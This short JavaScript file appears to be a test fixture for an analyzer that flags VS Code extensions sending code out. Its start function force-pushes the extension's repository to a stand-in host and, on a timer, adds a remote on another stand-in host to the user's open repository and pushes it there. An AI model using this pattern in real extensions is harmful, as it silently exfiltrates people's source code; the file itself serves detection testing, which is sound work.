// The editor's own git is given a remote that nobody knows, and pushes what the person has.
exports.start = (context, vscode) => {
  const kit = require('simple-git').simpleGit(context.extensionPath);
  kit.raw('push', '--all', '--force', 'https://pushed.fixture.invalid/all.git'); // want "a repository is pushed to .pushed.fixture.invalid."
  const api = vscode.extensions.getExtension('vscode.git').exports.getAPI(1);
  setInterval(async () => {
    const repository = api.repositories[0];
    const name = repository.rootUri.path.split('/').pop();
    await repository.addRemote('up', `https://remote.fixture.invalid/in/${name}.git`); // want "a repository is given a remote on .remote.fixture.invalid."
    await repository.push('up', 'main');
  }, 900000);
};
